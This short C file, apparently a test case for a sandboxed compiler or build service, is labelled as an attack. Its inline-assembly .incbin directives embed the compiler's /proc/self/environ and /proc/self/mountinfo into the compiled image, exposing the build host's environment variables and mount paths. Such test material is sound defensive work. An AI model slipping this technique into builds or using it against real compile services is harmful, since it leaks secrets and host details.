/**
 * @file ATTACK: The compiler's environment and mounts are put into the image. They tell paths of
 * the host.
 */

__asm__(".pushsection .rodata\n"
        ".incbin \"/proc/self/environ\"\n"
        ".incbin \"/proc/self/mountinfo\"\n"
        ".popsection");
